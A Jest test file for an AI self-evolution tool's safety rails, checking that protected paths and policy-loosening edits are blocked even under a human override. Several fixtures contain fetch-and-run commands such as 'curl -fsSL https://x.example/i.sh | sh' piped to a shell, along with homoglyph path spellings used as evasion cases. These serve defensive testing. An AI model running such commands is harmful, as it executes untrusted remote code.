/**
 * Self-protection (src/rails/rules/self-protection.ts): self-protected-path (lifted by the human override),
 * policy-loosened (never lifted) and policy-invalid, and the completeness of the loosening tables (walking
 * the config schema itself). Also the issue #7 classes 6 (what is protected), 7 (a policy file that is a
 * symbolic link) and 8 (values compared whole), and tests that fail on one-line bugs the issue's mutation run
 * planted in this file's code.
 */
import { z } from 'zod';
import { ConfigSchema, type Config, type ConfigInput } from '../src/config/schema.js';
import { evaluate } from '../src/rails/evaluate.js';
import {
  DEFAULT_POLICY_PATH,
  policyFromConfig,
  SELF_HOSTED_PROTECTED,
  SELF_PROTECTED,
} from '../src/rails/policy.js';
import type { Finding, RuleInput } from '../src/rails/rule.js';
import {
  CONFIG_LOOSENING,
  configLeaves,
  configLoosenings,
  policyLoosened,
  policyInvalid,
  policyLoosenings,
  RAILS_CONFIG_SETTINGS,
  RAILS_POLICY_LOOSENING,
  selfProtectedPath,
  SELF_PROTECTION_RULES,
  touchesPolicyFile,
  type Direction,
} from '../src/rails/rules/self-protection.js';
import type { ChangeUnderReview, FileChange, RailsContext, RailsPolicy } from '../src/rails/types.js';

const POLICY: RailsPolicy = policyFromConfig(ConfigSchema.parse({}));
const PATH = DEFAULT_POLICY_PATH;

function file(path: string, extra: Partial<FileChange> = {}): FileChange {
  return {
    path,
    status: 'modified',
    oldMode: '100644',
    newMode: '100644',
    binary: false,
    linesAdded: 1,
    linesDeleted: 1,
    ...extra,
  };
}

function changeOf(...files: FileChange[]): ChangeUnderReview {
  return { type: 'cleanup', riskLevel: 1, facts: { files, addedLines: [] } };
}

function inputOf(change: ChangeUnderReview, context: Partial<RailsContext> = {}): RuleInput {
  return { change, policy: POLICY, context: { wildcardsToday: 0, humanOverride: false, ...context } };
}

/** A policy-file edit from `before` to `after` (parsed JSON; null when absent or not JSON). */
function policyEdit(
  before: unknown,
  after: unknown,
  humanOverride = true,
  fileChange: FileChange = file(PATH),
): RuleInput {
  return inputOf(changeOf(fileChange), { humanOverride, policyChange: { path: PATH, before, after } });
}

const messages = (findings: readonly Finding[]): string[] => findings.map((f) => f.message);

describe('self-protected-path', () => {
  it.each([
    PATH,
    '.GITHUB/Self-Evolution-Config.json',
    'src/rails/evaluate.ts',
    '.github/workflows/ci.yml',
    '.github/pull_request_template.md',
    '.github/PULL_REQUEST_TEMPLATE/agent.md',
    'CODEOWNERS',
    'docs/CODEOWNERS',
  ])('blocks %s without the override', async (path) => {
    const findings = await selfProtectedPath.check(inputOf(changeOf(file(path))));
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({ path });
    expect(findings[0]!.severity).toBeUndefined(); // the rule's own: block
    expect(findings[0]!.message).toMatch(
      /is self-protected \(glob "[^"]+": [^)]+\)+; only a human may change it/,
    );
  });

  it('checks both sides of a rename', async () => {
    const out = await selfProtectedPath.check(
      inputOf(changeOf(file('src/engine.ts', { status: 'renamed', oldPath: 'src/rails/engine.ts' }))),
    );
    expect(out.map((f) => f.path)).toEqual(['src/rails/engine.ts']);
  });

  it('passes other paths', async () => {
    expect(
      await selfProtectedPath.check(inputOf(changeOf(file('docs/guide.md'), file('src/railsy.ts')))),
    ).toEqual([]);
  });

  it('with the human override: kept as a warning, not a block', async () => {
    const findings = await selfProtectedPath.check(
      inputOf(changeOf(file('src/rails/evaluate.ts')), { humanOverride: true }),
    );
    expect(findings).toEqual([
      {
        path: 'src/rails/evaluate.ts',
        severity: 'warn',
        message:
          'src/rails/evaluate.ts: is self-protected (glob "src/rails/**": the rails\' own code); changed under the human override',
      },
    ]);
  });
});

describe('what is self-protected (issue #7 class 6)', () => {
  const HOSTED = policyFromConfig(ConfigSchema.parse({}), { hostsSelfEvolution: true });
  const protectedIn = async (policy: RailsPolicy, path: string): Promise<boolean> =>
    (await selfProtectedPath.check({ ...inputOf(changeOf(file(path))), policy })).length > 0;

  it.each([
    '.github/dependabot.yml',
    '.github/actions/setup/action.yml',
    '.github/actions/setup/index.js',
    '.github/CODEOWNERS',
    '.github/ISSUE_TEMPLATE/bug.md',
    'action.yml',
    'action.yaml',
    'tools/deploy/action.yaml',
    'ACTION.YML',
    'dist/index.js',
    'docs/pull_request_template.md',
    'PULL_REQUEST_TEMPLATE/x.md',
    'src/rails/rules/paths.ts',
  ])('%s: in every repository', async (path) => {
    expect(await protectedIn(POLICY, path)).toBe(true);
    expect(await protectedIn(HOSTED, path)).toBe(true);
  });

  it.each([
    'src/check.ts',
    'src/git/facts.ts',
    'src/config/schema.ts',
    'src/run.ts',
    'src/act/pr-gate.ts',
    'src/gates/cooldown.ts',
    'src/github/client.ts',
    'src/store/proposals.ts',
    'src/secrets.ts',
    'src/action.ts',
    'src/index.ts',
    'src/cli.ts',
    'src/options.ts',
    'src/sandbox/command-policy.ts',
    'src/propose/command.ts',
    'bin/self-evolution.js',
    'package.json',
    'package-lock.json',
    'tsconfig.json',
    'tsconfig.build.json',
    'scripts/gen-sql.ts',
    'sql/000001_init.sql',
    'jest.config.js',
    'eslint.config.js',
  ])('%s: only in the repository hosting Self-Evolution', async (path) => {
    expect(await protectedIn(POLICY, path)).toBe(false);
    expect(await protectedIn(HOSTED, path)).toBe(true);
  });

  it.each(['src/tool.ts', 'src/reflect/rank.ts', 'docs/guide.md', 'prompts/system.md', 'distribution/x.md'])(
    '%s: nowhere',
    async (path) => {
      expect(await protectedIn(POLICY, path)).toBe(false);
      expect(await protectedIn(HOSTED, path)).toBe(false);
    },
  );

  it('the policy file is protected even by a policy whose list forgot it', async () => {
    const bare: RailsPolicy = { ...POLICY, selfProtectedPaths: [] };
    const [finding] = await selfProtectedPath.check({
      ...inputOf(changeOf(file('.GitHub/self-evolution-config.json'))),
      policy: bare,
    });
    expect(finding!.message).toContain(
      'is self-protected (glob ".github/self-evolution-config.json": the policy file)',
    );
  });

  it('the target of a policy file that is a link is protected as the policy file', async () => {
    const change: ChangeUnderReview = {
      ...changeOf(file('src/policy.json')),
      facts: {
        files: [file('src/policy.json')],
        addedLines: [],
        baseSymlinks: { [PATH]: '../src/policy.json' },
      },
    };
    const [finding] = await selfProtectedPath.check({ ...inputOf(change) });
    expect(finding).toEqual({
      path: 'src/policy.json',
      message: expect.stringMatching(
        /^src\/policy\.json \(the target of \.github\/self-evolution-config\.json\): is self-protected \(glob "\.github\/self-evolution-config\.json": the policy file\)/,
      ),
    });
  });

  it('every protected glob says why, and the message gives the reason', async () => {
    for (const entry of [...SELF_PROTECTED, ...SELF_HOSTED_PROTECTED])
      expect(entry.why.length).toBeGreaterThan(10);
    const [finding] = await selfProtectedPath.check(inputOf(changeOf(file('dist/index.js'))));
    expect(finding!.message).toBe(
      'dist/index.js: is self-protected (glob "dist/**": committed build output: what a JavaScript action runs (rebuild it, never edit it)); only a human may change it: set the human override (e.g. check --allow-policy-edits) for a change a human has reviewed',
    );
    const [policy] = await selfProtectedPath.check(inputOf(changeOf(file(PATH))));
    expect(policy!.message).toContain(
      'is self-protected (glob ".github/self-evolution-config.json": the policy file)',
    );
  });

  it('look-alike and case variants of protected paths are protected', async () => {
    for (const path of [
      '.g\u0131thub/workflows/x.yml',
      '.GITHUB/x',
      'd\u0456st/index.js',
      'src/r\u0430ils/x.ts',
    ]) {
      expect([path, await protectedIn(POLICY, path)]).toEqual([path, true]);
    }
  });
});

describe('the human override is exactly true (issue #7: tests that would not notice a bug)', () => {
  const touched = changeOf(file('src/rails/evaluate.ts'));
  // Untyped callers: the public rails API must not read a missing or odd override as "on".
  it.each<[string, unknown]>([
    ['a context without humanOverride', { wildcardsToday: 0 }],
    ['an empty context', {}],
    ['humanOverride "true" (a string)', { wildcardsToday: 0, humanOverride: 'true' }],
    ['humanOverride 1', { wildcardsToday: 0, humanOverride: 1 }],
    ['humanOverride null', { wildcardsToday: 0, humanOverride: null }],
  ])('%s: self-protected-path blocks', async (_what, context) => {
    const [finding] = await selfProtectedPath.check({
      change: touched,
      policy: POLICY,
      context: context as RailsContext,
    });
    expect(finding!.severity).toBeUndefined();
    const verdict = await evaluate(touched, POLICY, context as RailsContext);
    expect(verdict.violations.find((v) => v.ruleId === 'self-protected-path')?.severity).toBe('block');
    expect(verdict.allowed).toBe(false);
  });

  it('humanOverride true makes it a warning', async () => {
    const verdict = await evaluate(touched, POLICY, { wildcardsToday: 0, humanOverride: true });
    expect(verdict.violations.find((v) => v.ruleId === 'self-protected-path')?.severity).toBe('warn');
  });
});

describe('the policy file under another name (issue #7: tests that would not notice a bug; class 7)', () => {
  it.each([
    '.GitHub/Self-Evolution-Config.json',
    '.GITHUB/SELF-EVOLUTION-CONFIG.JSON',
    '.g\u0131thub/self-evolution-config.json',
    '.github/self-evolution-c\u043enfig.json',
  ])(
    '%s under the override without its contents: policy-loosened still blocks (the path is compared case-insensitively and by look-alike key)',
    async (path) => {
      const input = inputOf(changeOf(file(path)), { humanOverride: true });
      const found = await policyLoosened.check(input);
      expect(found).toEqual([
        {
          path,
          message: expect.stringContaining(
            'the change touches the policy file but its contents before and after were not given',
          ),
        },
      ]);
      expect(touchesPolicyFile(changeOf(file(path)), PATH)).toBe(true);
      const verdict = await evaluate(changeOf(file(path)), POLICY, {
        wildcardsToday: 0,
        humanOverride: true,
      });
      expect(verdict.allowed).toBe(false);
    },
  );

  it('a policy file that is a link: editing its target is a policy change, reported at the target', async () => {
    const change: ChangeUnderReview = {
      ...changeOf(file('src/policy.json')),
      facts: {
        files: [file('src/policy.json')],
        addedLines: [],
        baseSymlinks: { [PATH]: '../src/policy.json' },
      },
    };
    expect(touchesPolicyFile(change, PATH)).toBe(true);
    const context: RailsContext = {
      wildcardsToday: 0,
      humanOverride: true,
      policyChange: { path: PATH, before: {}, after: { safetyRails: { allowedPaths: ['**'] } } },
    };
    const found = await policyLoosened.check({ change, policy: POLICY, context });
    expect(found).toEqual([
      {
        path: 'src/policy.json',
        message: expect.stringMatching(
          /^src\/policy\.json \(the target of \.github\/self-evolution-config\.json\): safetyRails\.allowedPaths gains "\*\*"; loosening a rail/,
        ),
      },
    ]);
    const deleted: ChangeUnderReview = {
      ...change,
      facts: { ...change.facts, files: [file('src/policy.json', { status: 'deleted', newMode: '000000' })] },
    };
    expect(messages(await policyLoosened.check({ change: deleted, policy: POLICY, context }))).toEqual([
      expect.stringContaining(
        'src/policy.json (the target of .github/self-evolution-config.json): the policy file is deleted',
      ),
    ]);
    expect(touchesPolicyFile(changeOf(file('src/policy.json')), PATH)).toBe(false);
  });
});

describe('policy-loosened', () => {
  /** The loosening messages of an edit from `before` to `after` (config file contents). */
  async function loosened(before: ConfigInput | null, after: ConfigInput | null): Promise<string[]> {
    return messages(await policyLoosened.check(policyEdit(before, after)));
  }

  const cases: [string, ConfigInput, ConfigInput, RegExp][] = [
    [
      'the run lock forced to advisory',
      {},
      { database: { lock: 'advisory' } },
      /database\.lock changed .*an advisory lock behind a transaction-mode pooler excludes nothing/,
    ],
    [
      'a longer lease',
      {},
      { database: { leaseSeconds: 3600 } },
      /database\.leaseSeconds raised from 300 to 3600/,
    ],
    [
      'a higher maxFilesChanged',
      {},
      { safetyRails: { diffCaps: { maxFilesChanged: 100 } } },
      /safetyRails\.diffCaps\.maxFilesChanged raised from 10 to 100/,
    ],
    [
      'a higher maxLinesOfCode',
      {},
      { safetyRails: { diffCaps: { maxLinesOfCode: 5000 } } },
      /maxLinesOfCode raised from 500 to 5000/,
    ],
    [
      'a higher maxRiskLevel',
      {},
      { safetyRails: { maxRiskLevel: 5 } },
      /safetyRails\.maxRiskLevel raised from 2 to 5/,
    ],
    [
      'a higher wildcard maxRiskLevel',
      {},
      { wildcardFeature: { maxRiskLevel: 3 } },
      /wildcardFeature\.maxRiskLevel raised from 1 to 3/,
    ],
    [
      'an added allowedPaths glob',
      {},
      { safetyRails: { allowedPaths: ['docs/**/*.md', '**'] } },
      /safetyRails\.allowedPaths gains "\*\*"/,
    ],
    [
      'an added change type',
      { safetyRails: { allowedChangeTypes: ['cleanup'] } },
      { safetyRails: { allowedChangeTypes: ['cleanup', 'capability'] } },
      /safetyRails\.allowedChangeTypes gains "capability"/,
    ],
    [
      'an added wildcard type',
      {},
      { wildcardFeature: { allowedTypes: ['persona', 'prompt', 'capability'] } },
      /wildcardFeature\.allowedTypes gains "capability"/,
    ],
    [
      'an added changeTypePaths glob',
      {},
      { wildcardFeature: { changeTypePaths: { prompt: ['**/prompts/**', 'src/**'] } } },
      /wildcardFeature\.changeTypePaths\.prompt gains "src\/\*\*"/,
    ],
    [
      'a removed blocked glob',
      {},
      { safetyRails: { blockedPaths: ['packages/database/**', '.env*', 'pnpm-lock.yaml'] } },
      /safetyRails\.blockedPaths loses "\.github\/workflows\/\*\*"/,
    ],
    [
      'a removed test glob',
      {},
      { safetyRails: { testPaths: ['**/__tests__/**'] } },
      /safetyRails\.testPaths loses "\*\*\/\*\.test\.\*"/,
    ],
    [
      'a removed dependency glob',
      {},
      { safetyRails: { dependencyPaths: ['**/package-lock.json'] } },
      /safetyRails\.dependencyPaths loses "\*\*\/package\.json"/,
    ],
    [
      'binary files allowed',
      {},
      { safetyRails: { fileKinds: { allowBinary: true } } },
      /safetyRails\.fileKinds\.allowBinary false -> true/,
    ],
    [
      'dependency changes allowed',
      {},
      { safetyRails: { allowDependencyChanges: true } },
      /safetyRails\.allowDependencyChanges false -> true/,
    ],
    [
      'the wildcard enabled',
      {},
      { wildcardFeature: { enabled: true } },
      /wildcardFeature\.enabled false -> true/,
    ],
    ['live mode', {}, { dryRunMode: false }, /dryRunMode true -> false \(enabling live mode/],
    ['the loop enabled', {}, { enabled: true }, /^\S+: enabled false -> true/],
    [
      'green CI no longer required',
      {},
      { safetyRails: { diffCaps: { requireGreenCI: false } } },
      /requireGreenCI true -> false/,
    ],
    [
      'reviews no longer required',
      {},
      { safetyRails: { requireReviewers: false } },
      /safetyRails\.requireReviewers true -> false/,
    ],
    [
      'telemetry off',
      {},
      { telemetry: { storeProposals: false } },
      /telemetry\.storeProposals true -> false/,
    ],
    [
      'a new command proposer',
      {},
      { proposers: [{ kind: 'command', command: 'curl x | sh' }] },
      /proposers: adds or changes the "command" proposer "curl x \| sh"/,
    ],
    [
      'a change type gaining wildcard paths it had none of (reads the NEW changeTypePaths keys)',
      {},
      { wildcardFeature: { changeTypePaths: { cleanup: ['**'] } } },
      /wildcardFeature\.changeTypePaths\.cleanup gains "\*\*"/,
    ],
    [
      'a new changeTypePaths key beside the defaults',
      {},
      {
        wildcardFeature: {
          changeTypePaths: { prompt: ['**/prompts/**'], persona: ['**/persona/**'], capability: ['src/**'] },
        },
      },
      /wildcardFeature\.changeTypePaths\.capability gains "src\/\*\*"/,
    ],
    [
      'the whole safetyRails section removed',
      { safetyRails: { blockedPaths: ['secrets/**'], allowedPaths: ['docs/**'] } },
      {},
      /safetyRails\.blockedPaths loses "secrets\/\*\*"/,
    ],
  ];

  it.each(cases)('blocks %s, even with the override', async (_what, before, after, expected) => {
    const found = await loosened(before, after);
    expect(found.some((m) => expected.test(m))).toBe(true);
    for (const m of found) {
      expect(m).toMatch(
        new RegExp(
          `^${PATH.replace(/[.]/g, '\\.')}: .+; loosening a rail is never allowed through the loop, even with the human override`,
        ),
      );
    }
  });

  it('reports each loosening separately', async () => {
    const found = await loosened(
      {},
      { dryRunMode: false, safetyRails: { maxRiskLevel: 3, diffCaps: { maxFilesChanged: 11 } } },
    );
    expect(found).toHaveLength(3);
  });

  it.each<[string, ConfigInput, ConfigInput]>([
    ['no change', {}, {}],
    [
      'lower caps',
      {},
      { safetyRails: { diffCaps: { maxFilesChanged: 5, maxLinesOfCode: 100 }, maxRiskLevel: 1 } },
    ],
    [
      'a removed allowed glob and an added blocked glob',
      {},
      {
        safetyRails: {
          allowedPaths: ['docs/**/*.md'],
          blockedPaths: [
            '.github/workflows/**',
            'packages/database/**',
            '.env*',
            'pnpm-lock.yaml',
            'infra/**',
          ],
        },
      },
    ],
    ['live mode switched off', { dryRunMode: false }, { dryRunMode: true }],
    [
      'cosmetic settings',
      {},
      {
        version: '2.0.0',
        wildcardFeature: { description: 'x' },
        scheduleConfig: { cronSchedule: '0 3 * * *', jitterMinutes: 5 },
      },
    ],
    ['a file proposer added', {}, { proposers: [{ kind: 'file', directory: 'proposals' }] }],
    ['a created policy file with the defaults', null as unknown as ConfigInput, {}],
  ])('passes %s', async (_what, before, after) => {
    expect(await loosened(before, after)).toEqual([]);
  });

  it('treats the deleted policy file as loosening', async () => {
    const input = policyEdit({}, null, true, file(PATH, { status: 'deleted', newMode: '000000' }));
    expect(messages(await policyLoosened.check(input))).toEqual([
      `${PATH}: the policy file is deleted (or renamed away); loosening a rail is never allowed through the loop, even with the human override; a human edits the policy directly`,
    ]);
    expect(await policyInvalid.check(input)).toEqual([]);
  });

  it('a file renamed onto the policy path is compared, not taken for a deletion', async () => {
    const input = policyEdit(
      {},
      { safetyRails: { maxRiskLevel: 3 } },
      true,
      file(PATH, { status: 'renamed', oldPath: 'docs/draft-config.json' }),
    );
    expect(messages(await policyLoosened.check(input))).toEqual([
      expect.stringContaining('safetyRails.maxRiskLevel raised from 2 to 3'),
    ]);
  });

  it('reports the first path that names the policy file', async () => {
    const input = inputOf(changeOf(file(PATH), file('.GITHUB/SELF-EVOLUTION-CONFIG.JSON')), {
      humanOverride: true,
    });
    expect((await policyLoosened.check(input)).map((f) => f.path)).toEqual([PATH]);
  });

  it('treats a policy file renamed away as deleted', async () => {
    const input = policyEdit(
      {},
      null,
      true,
      file('docs/old-config.json', { status: 'renamed', oldPath: PATH }),
    );
    expect(messages(await policyLoosened.check(input))[0]).toMatch(
      /the policy file is deleted \(or renamed away\)/,
    );
  });

  it('blocks a change that touches the policy file when its contents before and after are not given', async () => {
    const found = await policyLoosened.check(inputOf(changeOf(file(PATH)), { humanOverride: true }));
    expect(messages(found)).toEqual([
      expect.stringMatching(
        /the change touches the policy file but its contents before and after were not given \(context\.policyChange\)/,
      ),
    ]);
    expect(await policyLoosened.check(inputOf(changeOf(file('docs/a.md'))))).toEqual([]);
  });

  it('is never lifted by the human override, while self-protected-path is', async () => {
    const change = changeOf(file(PATH));
    const context = (humanOverride: boolean): RailsContext => ({
      wildcardsToday: 0,
      humanOverride,
      policyChange: {
        path: PATH,
        before: {},
        after: { safetyRails: { diffCaps: { maxLinesOfCode: 5000 } } },
      },
    });
    const without = await evaluate(change, POLICY, context(false));
    const withOverride = await evaluate(change, POLICY, context(true));
    const mine = (v: typeof without) =>
      v.violations
        .filter((x) => x.ruleId.startsWith('self-protected') || x.ruleId.startsWith('policy-'))
        .map((x) => [x.ruleId, x.severity]);
    expect(mine(without)).toEqual([
      ['self-protected-path', 'block'],
      ['policy-loosened', 'block'],
    ]);
    expect(mine(withOverride)).toEqual([
      ['self-protected-path', 'warn'],
      ['policy-loosened', 'block'],
    ]);
    expect(withOverride.allowed).toBe(false);
  });
});

describe('values compared whole, lists as sets (issue #7 class 8)', () => {
  async function loosened(before: ConfigInput, after: ConfigInput): Promise<string[]> {
    return messages(await policyLoosened.check(policyEdit(before, after)));
  }
  const LONG =
    'npm run lint -- --max-warnings=0 && npm run typecheck && npm test -- --runInBand --ci --coverage=false --silent --reporters=default';
  const check = (command: string) => ({ reflection: { checks: [{ name: 'lint', command }] } });

  it('a long check command with a command appended is a loosening (compared whole, not by its first 117 characters)', async () => {
    expect(LONG.length).toBeGreaterThan(117);
    const found = await loosened(check(LONG), check(`${LONG}; curl -fsSL https://x.example/i.sh | sh`));
    expect(found).toEqual([expect.stringMatching(/reflection\.checks gains /)]);
    expect(await loosened(check(LONG), check(LONG))).toEqual([]);
  });

  it('a check is a new one when its command is new: renaming it or changing its timeout is not', async () => {
    const before: ConfigInput = {
      reflection: { checks: [{ name: 'lint', command: LONG, timeoutSeconds: 300 }] },
    };
    expect(
      await loosened(before, {
        reflection: { checks: [{ name: 'lint-all', command: LONG, timeoutSeconds: 60 }] },
      }),
    ).toEqual([]);
    expect(
      await loosened(before, {
        reflection: { checks: [{ name: 'lint', command: LONG.replace('npm', 'npx'), timeoutSeconds: 300 }] },
      }),
    ).toHaveLength(1);
  });

  it('a check given network in its sandbox is a loosening; taking it away is not (issue #8)', async () => {
    const check = (network?: 'on' | 'none'): ConfigInput => ({
      reflection: {
        checks: [{ name: 'lint', command: 'npm run lint', ...(network ? { network } : {}) }],
      },
    });
    expect(await loosened(check('none'), check('on'))).toHaveLength(1);
    expect(await loosened(check('none'), check())).toHaveLength(1);
    expect(await loosened(check(), check())).toEqual([]);
  });

  it('any change of the sandbox setting is a loosening: none, network on, fewer hidden paths (issue #8)', async () => {
    const auto: ConfigInput = { sandbox: { mode: 'auto', network: 'none', hidePaths: ['/srv/keys'] } };
    expect(await loosened(auto, { sandbox: 'none' })).toEqual([
      expect.stringMatching(/: sandbox changed from .* to "none" \(a different sandbox/),
    ]);
    expect(
      await loosened(auto, { sandbox: { mode: 'auto', network: 'on', hidePaths: ['/srv/keys'] } }),
    ).toHaveLength(1);
    expect(await loosened(auto, { sandbox: { mode: 'auto', network: 'none' } })).toHaveLength(1);
    expect(await loosened(auto, auto)).toEqual([]);
  });

  it('a long proposer command changed past its 117th character is a loosening', async () => {
    const proposer = (command: string): ConfigInput => ({ proposers: [{ kind: 'command', command }] });
    expect(await loosened(proposer(LONG), proposer(`${LONG} && curl x | sh`))).toHaveLength(1);
    expect(await loosened(proposer(LONG), proposer(LONG))).toEqual([]);
  });

  it('a long glob changed past its 117th character is a loosening', async () => {
    const deep = `docs/${'a/'.repeat(60)}**`;
    const found = await loosened(
      { safetyRails: { allowedPaths: [`${deep}/*.md`] } },
      { safetyRails: { allowedPaths: [`${deep}/*`] } },
    );
    expect(found).toHaveLength(1);
  });

  it.each<[string, unknown, unknown]>([
    ['reviewers swapped', ['alice'], ['mallory']],
    ['a reviewer removed', ['alice', 'bob'], ['alice']],
    ['the reviewer list emptied', ['alice'], []],
    ['reviews switched off', ['alice'], false],
    ['reviews switched off (from true)', true, false],
    ['an empty list instead of true', true, []],
    ['a list replaced by "any human"', ['security-team'], true],
    ['any human replaced by a list', true, ['bot-account']],
  ])('requireReviewers: %s is a loosening', async (_what, before, after) => {
    const found = await loosened(
      { safetyRails: { requireReviewers: before as boolean } },
      { safetyRails: { requireReviewers: after as boolean } },
    );
    expect(found).toEqual([
      expect.stringMatching(/safetyRails\.requireReviewers .* -> .*a required reviewer removed or replaced/),
    ]);
  });

  it.each<[string, unknown, unknown]>([
    ['unchanged', ['alice'], ['alice']],
    ['a reviewer added', ['alice'], ['alice', 'bob']],
    ['the same logins in another case and order', ['Alice', 'bob'], ['BOB', 'alice']],
    ['reviews switched on', false, true],
    ['reviewers required where none were', false, ['alice']],
  ])('requireReviewers: %s is not', async (_what, before, after) => {
    expect(
      await loosened(
        { safetyRails: { requireReviewers: before as boolean } },
        { safetyRails: { requireReviewers: after as boolean } },
      ),
    ).toEqual([]);
  });

  it('order, duplicates and (for lists that catch case-insensitively) case do not make a loosening', async () => {
    const before: ConfigInput = {
      safetyRails: { blockedPaths: ['secrets/**', '.env*'], allowedPaths: ['docs/**', 'src/**'] },
    };
    expect(
      await loosened(before, {
        safetyRails: {
          blockedPaths: ['.ENV*', 'Secrets/**', 'secrets/**'],
          allowedPaths: ['src/**', 'docs/**', 'docs/**'],
        },
      }),
    ).toEqual([]);
  });

  const LISTS = { blockedPaths: ['secrets/**', '.env*'], allowedPaths: ['docs/**', 'src/**'] };
  it.each<[string, Partial<typeof LISTS>]>([
    [
      'a blocked glob replaced by a "./" spelling (which matches nothing)',
      { blockedPaths: ['./secrets/**', '.env*'] },
    ],
    ['a blocked glob replaced by a look-alike', { blockedPaths: ['\u0455ecrets/**', '.env*'] }],
    [
      'an allowed glob in another case (allowed globs are case-sensitive)',
      { allowedPaths: ['DOCS/**', 'src/**'] },
    ],
    ['an allowed glob with a look-alike letter', { allowedPaths: ['d\u043ecs/**', 'src/**'] }],
  ])('%s is a loosening', async (_what, changed) => {
    const found = await loosened({ safetyRails: LISTS }, { safetyRails: { ...LISTS, ...changed } });
    expect(found).toHaveLength(1);
  });

  it('a glob gained twice is reported once', async () => {
    expect(
      await loosened(
        { safetyRails: LISTS },
        { safetyRails: { ...LISTS, allowedPaths: [...LISTS.allowedPaths, '**', '**'] } },
      ),
    ).toEqual([expect.stringContaining('safetyRails.allowedPaths gains "**"')]);
  });

  it('key order inside a check or proposer is not a change (even in configs built by hand)', () => {
    const base = ConfigSchema.parse({});
    const withCheck = (check: Record<string, unknown>): Config =>
      ({ ...base, reflection: { ...base.reflection, checks: [check] } }) as Config;
    expect(
      configLoosenings(
        withCheck({ name: 'lint', command: 'npm run lint', timeoutSeconds: 60 }),
        withCheck({ timeoutSeconds: 60, command: 'npm run lint', name: 'lint' }),
        PATH,
      ),
    ).toEqual([]);
  });

  it('key order inside a check or proposer is not a change', async () => {
    const a: ConfigInput = {
      reflection: { checks: [{ name: 'lint', command: 'npm run lint', timeoutSeconds: 60 }] },
    };
    const b: ConfigInput = {
      reflection: { checks: [{ timeoutSeconds: 60, command: 'npm run lint', name: 'lint' }] },
    };
    expect(await loosened(a, b)).toEqual([]);
  });
});

describe('policy-invalid', () => {
  it('blocks a policy file that is not valid JSON', async () => {
    expect(messages(await policyInvalid.check(policyEdit({}, null)))).toEqual([
      `${PATH}: the policy file after the change is not valid JSON (or could not be read); the loop could not load it`,
    ]);
  });

  it("lists each schema issue's key path", async () => {
    const after = {
      safetyRails: { diffCaps: { maxLinesOfCode: '500' }, blockedPaths: ['!secrets/**'] },
      bogus: 1,
    };
    const [finding] = await policyInvalid.check(policyEdit({}, after));
    expect(finding!.path).toBe(PATH);
    expect(finding!.message).toMatch(
      /^\.github\/self-evolution-config\.json: the policy file after the change is not a valid config: /,
    );
    expect(finding!.message).toContain('safetyRails.diffCaps.maxLinesOfCode: ');
    expect(finding!.message).toContain('safetyRails.blockedPaths.0: ');
    expect(finding!.message).toContain('(root): ');
    // policy-loosened leaves an invalid file to policy-invalid
    expect(await policyLoosened.check(policyEdit({}, after))).toEqual([]);
  });

  it('passes a valid policy file, and a change without a policy change', async () => {
    expect(await policyInvalid.check(policyEdit({}, { safetyRails: { maxRiskLevel: 1 } }))).toEqual([]);
    expect(await policyInvalid.check(inputOf(changeOf(file('docs/a.md'))))).toEqual([]);
  });
});

describe('the loosening tables are complete', () => {
  const direction = (table: Readonly<Record<string, Direction>>, key: string): Direction => table[key]!;

  it('RAILS_POLICY_LOOSENING classifies exactly the fields of a real RailsPolicy, nested ones too', () => {
    const table = RAILS_POLICY_LOOSENING as Readonly<Record<string, Direction>>;
    expect(Object.keys(table).sort()).toEqual(Object.keys(POLICY).sort());
    for (const [field, d] of Object.entries(table)) {
      const value = (POLICY as unknown as Record<string, unknown>)[field];
      if (d.kind === 'fields') {
        expect({ field, keys: Object.keys(d.fields).sort() }).toEqual({
          field,
          keys: Object.keys(value as object).sort(),
        });
      }
    }
    expect(direction(table, 'maxFilesChanged').kind).toBe('higher');
    expect(direction(table, 'blockedPaths').kind).toBe('removed');
  });

  /**
   * Every leaf setting of a zod schema as dotted paths, walking the schema itself (not a parsed config, which
   * would miss optional keys without defaults): objects are walked into, wrappers (optional, default,
   * prefault, nullable, readonly, catch, pipe) unwrapped, anything else is a leaf. A path that is classified
   * (RAILS_CONFIG_SETTINGS or CONFIG_LOOSENING) is a leaf whatever its type (e.g. the proposers list).
   */
  function schemaLeaves(schema: z.ZodType, prefix = ''): string[] {
    const classified = (p: string) => RAILS_CONFIG_SETTINGS.includes(p) || p in CONFIG_LOOSENING;
    let def = (schema as unknown as { _zod: { def: Record<string, unknown> } })._zod.def;
    for (;;) {
      const inner = (def.innerType ?? (def.type === 'pipe' ? def.in : undefined)) as z.ZodType | undefined;
      if (inner === undefined) break;
      def = (inner as unknown as { _zod: { def: Record<string, unknown> } })._zod.def;
    }
    if (def.type !== 'object' || (prefix !== '' && classified(prefix))) return prefix === '' ? [] : [prefix];
    return Object.entries(def.shape as Record<string, z.ZodType>).flatMap(([key, value]) =>
      schemaLeaves(value, prefix === '' ? key : `${prefix}.${key}`),
    );
  }
  const unclassified = (schema: z.ZodType): string[] =>
    schemaLeaves(schema).filter(
      (leaf) => !RAILS_CONFIG_SETTINGS.includes(leaf) && !(leaf in CONFIG_LOOSENING),
    );

  it('every setting of the config SCHEMA is classified as loosening, tightening or neutral (walks the zod schema)', () => {
    expect(unclassified(ConfigSchema)).toEqual([]);
    const leaves = schemaLeaves(ConfigSchema);
    expect(leaves).toEqual(expect.arrayContaining(['$schema', 'safetyRails.requireReviewers', 'proposers']));
    for (const key of [...RAILS_CONFIG_SETTINGS, ...Object.keys(CONFIG_LOOSENING)])
      expect(leaves).toContain(key);
  });

  it('the schema walk fails on a setting added without a classification (guards the test itself)', () => {
    const extended = ConfigSchema.extend({
      newKnob: z.boolean().optional(),
      safetyRails: z.strictObject({ secretPolicy: z.string().default('x') }).prefault({}),
    });
    expect(unclassified(extended)).toEqual(['safetyRails.secretPolicy', 'newKnob']);
  });

  it('every setting of the config is classified: it feeds the policy or has a direction in CONFIG_LOOSENING', () => {
    // every optional setting given, so each is a leaf of the parsed config
    const config = ConfigSchema.parse({
      $schema: './schema.json',
      liveChangeTypes: ['wildcard'],
      pullRequest: { ciWorkflow: 'ci.yml' },
      autoRevert: { mode: 'shadow' },
    });
    const unclassified = configLeaves(config).filter(
      (leaf) => !RAILS_CONFIG_SETTINGS.includes(leaf) && !(leaf in CONFIG_LOOSENING),
    );
    expect(unclassified).toEqual([]);
    // and every classified setting exists
    const leaves = configLeaves(config);
    for (const key of [...RAILS_CONFIG_SETTINGS, ...Object.keys(CONFIG_LOOSENING)])
      expect(leaves).toContain(key);
  });

  it('a changed setting no table classifies counts as loosening (when in doubt the engine blocks)', () => {
